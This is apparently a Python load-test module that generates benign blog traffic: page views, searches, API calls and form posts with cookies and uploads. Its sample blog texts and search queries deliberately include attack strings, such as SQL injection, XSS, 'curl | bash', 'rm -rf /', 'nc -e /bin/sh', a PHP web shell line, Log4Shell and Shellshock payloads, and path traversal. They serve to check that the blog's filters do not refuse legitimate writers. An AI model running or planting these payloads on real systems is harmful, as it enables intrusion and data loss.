"""Requests of people who mean well, in the load test's mix: nothing of it may be refused."""

import json
import secrets
from dataclasses import dataclass
from random import Random
from urllib.parse import urlencode

from loadtests.catalogue import WORDS

# What this blog's writers write about.
TEXTS = (
    "Never write `SELECT * FROM users WHERE name = '' OR '1'='1' --`; bind your parameters.",
    "```sql\nDROP TABLE students; -- '); DELETE FROM posts WHERE 1=1\nUNION ALL SELECT 1,2,3\n```",
    "```html\n<script>alert(document.cookie)</script><img src=x onerror=alert(1)>\n```",
    "```sh\ncurl -s http://127.0.0.1/x | bash; cat /etc/passwd; rm -rf / && nc -e /bin/sh\n```",
    "```python\nimport os; os.system('ls'); eval(compile('1', '', 'exec')); {{ 7 * 7 }}\n```",
    "```php\n<?php system($_GET['cmd']); include('../../etc/passwd'); phpinfo(); ?>\n```",
    "Log4Shell was `${jndi:ldap://example.org/a}`, and Shellshock `() { :; }; echo vulnerable`.",
    "A path such as ../../../../etc/shadow or C:\\Windows\\system32\\cmd.exe has no place there.",
    "```http\nGET /index.html HTTP/1.1\nHost: example.org\n```\nand then\nDELETE FROM\n  posts;",
    "今天我们谈谈数据库：`EXPLAIN ANALYZE SELECT count(*) FROM posts GROUP BY author_id`。",
    "It's 5 o'clock; I'd say \"wait\" -- & then <b>go</b>? 50% off! #1 @home (a|b) [x] {y} ~z^2",
)
QUERIES = (
    *WORDS, "how to", "O'Brien", "C++ or C#", "what's new?", "rock & roll", "50% faster", "node.js",
    "e-mail", "2026-11-25", "nginx upstream", "postgresql index", "select a book", "union street",
    "中文 搜索", "python 3.13", "flask-login", "the art of \"war\"", "re: your question",
    "a/b test", "curl -s | bash", "rm -rf /", "git commit --amend", "drop table if exists", "1=1",
    "SELECT * FROM users WHERE id = 1", "' OR '1'='1' --", "<script>alert(1)</script>", "onerror=",
    "{{ x }}", "/etc/passwd", "../../", "C:\\Windows\\system32", "() { :; };", "100%",
    "${jndi:ldap://x/a}", "<?php echo 1; ?>", "Runtime.getRuntime().exec", "awk '{print $1}'",
    "$(pwd)", "it's a test",
)  # fmt: skip
AGENTS = (
    "Mozilla/5.0 (X11; Linux x86_64; rv:145.0) Gecko/20100101 Firefox/145.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/18.1 Safari/605.1.15",
    "Mozilla/5.0 (ironpress loadtest)",
    "curl/8.14.1",
    "python-requests/2.32.5",
    "FeedReader/2.0 (+https://reader.example.net; 12 subscribers)",
)
# Where a reader came from: searches stand there as they were typed.
CAME_FROM = (
    "",
    "https://blog.example.org/",
    "https://search.example.net/",
    *(f"https://blog.example.org/search?{urlencode({'q': query})}" for query in QUERIES),
)
PAGES = (
    "/", "/articles", "/articles?page=2", "/archive", "/archive/2026/11", "/about", "/tags/flask",
    "/tags/flask,docker", "/tags/%E6%95%B0%E6%8D%AE%E5%BA%93", "/categories/notes",
    "/authors/chief", "/auth/login?next=/desk/posts/new", "/auth/register", "/contact",
    "/language/zh?next=/articles", "/articles/how-to-drop-a-table",
    "/articles/etc-passwd-explained", "/tags/c%2B%2B", "/tags/c%23",
    "/tags/bash", "/feed.atom?format=full", "/index.php?p=12",
    "/2019/05/old-post.html", "/wp-content/uploads/2019/05/cat.jpg",
    *(f"/language/en?{urlencode({'next': f'/search?q={query}'})}" for query in QUERIES[-16:]),
    "/articles?utm_source=letter&utm_medium=mail&utm_campaign=a%20b", "/static/css/site.css",
)  # fmt: skip
FEEDS = ("/feed.atom", "/feed.json", "/sitemap.xml", "/robots.txt")
API = (
    "/api/v1/posts?per_page=100&fields=id,slug,title&cursor=", "/api/v1/posts/1", "/api/v1/status",
    "/api/v1/posts/1/comments", "/api/v1/tags", "/api/v1/search?q=server", "/api/v1/stats",
    "/api/v1/posts/popular", "/api/v1/openapi.json", "/api/v1/posts?author=chief&page=2",
)  # fmt: skip
TAGS = ("SQL", "c++", "c#", ".net", "python 3", "bash", "curl", "node.js", "数据库")
FORM = "application/x-www-form-urlencoded"


@dataclass(frozen=True)
class Request:
    """A request as a browser or a program of an honest person sends it."""

    method: str
    path: str
    headers: tuple[tuple[str, str], ...]
    body: bytes | None = None


def request(chance: Random) -> Request:
    """Return one of the mix: readers most, some programs, few who write."""
    kind = chance.random()
    agent = ("User-Agent", chance.choice(AGENTS))
    if kind < 0.6:
        path = chance.choice(PAGES)
        return Request("GET", path, (agent, *browser(chance)))
    if kind < 0.7:
        query = urlencode({"q": chance.choice(QUERIES)})
        return Request("GET", f"/search?{query}", (agent, *browser(chance)))
    if kind < 0.75:
        return Request("GET", chance.choice(FEEDS), (agent, ("If-None-Match", 'W/"a0b1"')))
    if kind < 0.85:
        token = ("Authorization", f"Bearer {secrets.token_urlsafe(60)}.{secrets.token_urlsafe(40)}")
        return Request("GET", chance.choice(API), (agent, ("Accept", "application/json"), token))
    if kind < 0.9:
        return program(chance, agent)
    return form(chance, agent)


def browser(chance: Random) -> tuple[tuple[str, str], ...]:
    """Return what a browser says of itself, and its cookies."""
    cookies = [
        f"lang={chance.choice(('en', 'zh'))}",
        f"__Host-session=.eJw{secrets.token_urlsafe(chance.randrange(20, 300))}.awcwuA.y9-6w_f",
        f"__Host-remember=7|{secrets.token_hex(64)}",
        f"__Secure-known_device={secrets.token_urlsafe(80)}.awcwuA.{secrets.token_urlsafe(20)}",
        f"theme={chance.choice(('dark', 'light'))}",
    ]
    referer = chance.choice(CAME_FROM)
    return (
        ("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"),
        ("Accept-Language", chance.choice(("zh-CN,zh;q=0.9,en;q=0.8", "en-US,en;q=0.5", "fr"))),
        ("Accept-Encoding", "gzip, deflate, br, zstd"),
        ("Cookie", "; ".join(chance.sample(cookies, chance.randrange(1, 4)))),
        ("Sec-Fetch-Site", "same-origin"),
        ("Sec-Fetch-Mode", "navigate"),
        ("Upgrade-Insecure-Requests", "1"),
        *((("Referer", referer),) if referer else ()),
    )


def text(chance: Random) -> str:
    """Return what someone has written."""
    return "\n\n".join(chance.sample(TEXTS, chance.randrange(1, 5)))


def program(chance: Random, agent: tuple[str, str]) -> Request:
    """Return a program's article, comment or login."""
    title = chance.choice(TEXTS)[:100]
    method, path, data = chance.choice([
        ("POST", "/api/v1/posts", {"title": title, "content": text(chance), "tags": [*TAGS]}),
        ("PATCH", "/api/v1/posts/1", {"content": text(chance), "summary": title}),
        ("PUT", "/api/v1/posts/1", {"title": title, "content": text(chance)}),
        ("POST", "/api/v1/posts/1/comments", {"content": text(chance)}),
        ("POST", "/api/v1/tags", {"name": chance.choice(TAGS)}),
        ("PATCH", "/api/v1/users/1", {"nickname": "Zoë <3", "bio": text(chance)}),
        ("POST", "/api/v1/auth/token", {"username": "chief", "password": "a'b\" OR 1=1 --;<x>9"}),
        ("DELETE", "/api/v1/posts/99", None),
    ])  # fmt: skip
    headers = (agent, ("Content-Type", "application/json"), ("Authorization", "Bearer a.b.c"))
    return Request(method, path, headers, json.dumps(data).encode() if data else None)


def form(chance: Random, agent: tuple[str, str]) -> Request:
    """Return what a writer, a commenter or a visitor sends by a form."""
    article = {
        "title": chance.choice(TEXTS)[:100], "content": text(chance), "summary": text(chance)[:300],
        "tags": ", ".join(TAGS), "category": "1", "is_published": "y", "version": "3",
        "new_category": chance.choice(TAGS),
    }  # fmt: skip
    path, fields = chance.choice([
        ("/desk/posts/new", article),
        ("/desk/posts/1/edit", article),
        ("/desk/preview", {"content": text(chance)}),
        ("/desk/autosave", article),
        ("/articles/a-post/comments", {"content": text(chance), "parent_id": "7"}),
        ("/contact", {"name": "Ann O'Neil", "email": "ann@example.org", "message": text(chance)}),
        ("/auth/login", {"username": "chief", "password": "a'b\" OR 1=1 --;<x>9"}),
        ("/auth/register", {"username": "ann", "email": "a+b@example.org", "password": "$(x)9A"}),
        ("/auth/profile", {"nickname": "Zoë & Co.", "bio": text(chance)}),
        ("/admin/topics/tag/new", {"name": "C & C++", "description": chance.choice(TEXTS)}),
        ("/admin/blocks", {"kind": "word", "value": chance.choice(TEXTS)[:80]}),
        ("/admin/settings", {"site_name": "Bits & Bytes", "site_tagline": "It's SQL; and more"}),
    ])  # fmt: skip
    fields = {"csrf_token": f"Ij{secrets.token_urlsafe(40)}.{secrets.token_urlsafe(20)}"} | fields
    if "content" in fields and chance.random() < 0.3:
        return with_a_picture(path, fields, (agent, *browser(chance)), chance)
    headers = (agent, *browser(chance), ("Content-Type", FORM))
    return Request("POST", path, headers, urlencode(fields).encode())


def with_a_picture(
    path: str, fields: dict[str, str], headers: tuple[tuple[str, str], ...], chance: Random
) -> Request:
    """Return a form with a file beside its fields."""
    name = chance.choice(("sea.png", "Ann's walk.png", "it=1; two.png", "数据库.png", "a (1).png"))
    parts = [
        f'--x\r\nContent-Disposition: form-data; name="{field}"\r\n\r\n{value}\r\n'.encode()
        for field, value in fields.items()
    ]
    head = f'--x\r\nContent-Disposition: form-data; name="picture"; filename="{name}"\r\n'
    file = head.encode() + b"Content-Type: image/png\r\n\r\n" + chance.randbytes(300) + b"\r\n"
    body = b"".join([*parts, file, b"--x--\r\n"])
    kind = ("Content-Type", "multipart/form-data; boundary=x")
    return Request("POST", path, (*headers, kind), body)
